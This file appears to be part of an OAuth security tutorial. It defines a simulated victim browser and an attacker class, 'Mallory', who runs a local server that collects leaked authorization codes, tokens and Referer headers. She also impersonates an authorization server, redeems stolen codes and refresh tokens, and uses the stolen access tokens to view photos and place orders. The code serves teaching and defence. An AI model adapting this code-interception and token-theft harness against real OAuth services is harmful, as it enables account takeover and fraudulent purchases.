"""The people of an attack: somebody with a browser, and Mallory with her tools."""

import re
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlencode

import requests
from flask import Flask, Response, jsonify, redirect, request
from requests.adapters import BaseAdapter, HTTPAdapter

from oauth_tutorial.browser.notebook_browser import NotebookBrowser
from oauth_tutorial.browser.person import drive
from oauth_tutorial.client.pkce import new_code_verifier
from oauth_tutorial.exercises.attacks.shop import TIMEOUT, renew_tokens, with_pkce
from oauth_tutorial.exercises.attacks.site import THREADS, ShopSite
from oauth_tutorial.network import serve
from oauth_tutorial.practice.service import PhotoBox
from oauth_tutorial.text.listing import kind_of
from oauth_tutorial.text.readers import read_pairs, split_url

_PICTURE = re.compile(r'<img src="([^"]+)"')


class Browser(NotebookBrowser):
    """A browser that loads pictures and has a history, as real ones do.

    Args:
        username: Whose account at PhotoBox the person signs in with.
    """

    def __init__(self, username: str) -> None:
        super().__init__()
        self.username = username
        self.history: list[str] = []
        self.last: requests.Response | None = None
        self.session.hooks["response"].append(self._note)

    def sign_in(self, address: str) -> requests.Response | None:
        """Follow a link of PrintShop to PhotoBox, sign in, approve, and come back."""
        drive(self, address, username=self.username, decision="approve")
        return self.last

    def visit(self, address: str) -> requests.Response | None:
        """Open an address, and return the last answer of the way."""
        if not isinstance(address, str):
            raise TypeError(
                f"visit(address) wants an address, and got {kind_of(address)}: "
                "shop.callback(parameters) makes one"
            )
        self.open(address)
        return self.last

    def _note(self, answer: requests.Response, **_: object) -> None:
        self.history.append(answer.url)
        self.last = answer
        may_tell = answer.headers.get("Referrer-Policy") == "unsafe-url"
        for picture in _PICTURE.findall(answer.text):
            headers = {"Referer": answer.url} if may_tell else {}
            with requests.Session() as pictures:
                pictures.is_browser = True  # type: ignore[attr-defined]
                pictures.get(picture, headers=headers, timeout=TIMEOUT)


class _Trap(BaseAdapter):
    """It stands where PrintShop should be, and keeps what the browser brings."""

    def __init__(self) -> None:
        super().__init__()
        self.caught = ""

    def send(self, request: requests.PreparedRequest, *_: Any, **__: Any) -> requests.Response:
        self.caught = request.url or ""
        raise requests.ConnectionError("caught on the way")

    def close(self) -> None:
        """Nothing is open."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Received:
    """What came to Mallory's server. It may hold a code or a token: see the repr."""

    path: str
    query: Mapping[str, str] = field(repr=False)
    form: Mapping[str, str] = field(repr=False)
    referer: str = field(repr=False)


class Mallory(Browser):
    """The attacker: the account of bob, a server of her own, and what she caught.

    Her server is a picture of an advertisement, and EvilBox, an authorization server.
    """

    def __init__(self, photobox: PhotoBox) -> None:
        super().__init__("bob")
        self.photobox = photobox
        self.received: list[Received] = []
        self._server = serve(self._site(), name="mallory", threads=THREADS)
        self.address = f"http://{self._server.host}:{self._server.port}"

    def catch(self, browser: Browser, shop: ShopSite) -> dict[str, str]:
        """Let somebody sign in, and keep the answer before PrintShop has it."""
        trap = _Trap()
        browser.session.mount(shop.redirect_uri, trap)
        browser.sign_in(shop.login)
        browser.session.mount(shop.redirect_uri, HTTPAdapter())
        return query_of(trap.caught)

    def exchange(self, **form: str) -> dict[str, Any]:
        """Send a token request of her own; nothing when PhotoBox refuses."""
        if not form:
            raise ValueError("the form is empty: it came from a request that carries none")
        answer = requests.post(self.photobox.token_endpoint, data=form, timeout=TIMEOUT)
        return answer.json() if answer.status_code == 200 else {}

    def renew(self, tokens: Mapping[str, Any]) -> dict[str, Any]:
        """Use a stolen refresh token; nothing when PhotoBox refuses."""
        return renew_tokens(dict(tokens), self.photobox.token_endpoint) if tokens else {}

    def write_request(self, shop: ShopSite, redirect_uri: str) -> tuple[dict[str, str], str]:
        """Write an authorization request in PrintShop's name.

        Returns:
            Its parameters, and the ``code_verifier``: she asks, so PKCE protects her.
        """
        verifier, challenge = with_pkce(new_code_verifier())
        request = {
            "response_type": "code",
            "client_id": shop.app.client_id,
            "redirect_uri": redirect_uri,
            **challenge,
        }
        return request, verifier

    def link(self, request: Mapping[str, str]) -> str:
        """Write a link to PhotoBox's sign-in page."""
        return f"{self.photobox.issuer}/authorize?{urlencode(request)}"

    def exchange_caught(self, request: Mapping[str, str], code_verifier: str) -> dict[str, Any]:
        """Exchange the code that came to her own server, if one did."""
        codes = [one.query["code"] for one in self.received if "code" in one.query]
        if not codes:
            return {}
        return self.exchange(
            grant_type="authorization_code",
            code=codes[-1],
            redirect_uri=request["redirect_uri"],
            client_id=request["client_id"],
            code_verifier=code_verifier,
        )

    def see_photos(self, tokens: Mapping[str, Any]) -> requests.Response | None:
        """Call PhotoBox's API with a stolen token, if she has one."""
        if not tokens:
            return None
        if not isinstance(tokens, Mapping):
            text = f"see_photos(tokens) wants the tokens, a dictionary, and got {kind_of(tokens)}"
            raise TypeError(text)
        headers = {"Authorization": f"Bearer {tokens['access_token']}"}
        return requests.get(f"{self.photobox.api}/photos", headers=headers, timeout=TIMEOUT)

    def order(self, tokens: Mapping[str, Any]) -> requests.Response:
        """Order a hundred prints with a stolen token."""
        headers = {"Authorization": f"Bearer {tokens['access_token']}"}
        body = {"photo": 1, "copies": 100}
        return requests.post(
            f"{self.photobox.api}/orders", headers=headers, json=body, timeout=TIMEOUT
        )

    def stop(self) -> None:
        """Stop her server, and close her browser."""
        self._server.stop()
        self.close()

    def _site(self) -> Flask:
        site = Flask("mallory", static_folder=None)
        site.before_request(self._keep)
        site.add_url_rule("/authorize", "authorize", self._send_to_photobox)
        anything = {"path": ""}
        site.add_url_rule("/", "home", _from_evilbox, defaults=anything, methods=["GET", "POST"])
        site.add_url_rule("/<path:path>", "any", _from_evilbox, methods=["GET", "POST"])
        return site

    def _keep(self) -> None:
        received = Received(
            path=request.path,
            query=request.args.to_dict(),
            form=request.form.to_dict(),
            referer=request.headers.get("Referer", ""),
        )
        self.received.append(received)

    def _send_to_photobox(self) -> Any:
        """Be EvilBox, which sends the person on to PhotoBox."""
        return redirect(self.link(request.args), 303)


def _from_evilbox(path: str) -> Response:
    return jsonify(access_token="from EvilBox", token_type="Bearer", photos=[])  # noqa: S106


def query_of(address: str) -> dict[str, str]:
    """Return the parameters that an address carries."""
    if not isinstance(address, str):
        raise TypeError(f"query_of(address) wants one address, and got {kind_of(address)}")
    return dict(read_pairs(split_url(address).query, blank=False))
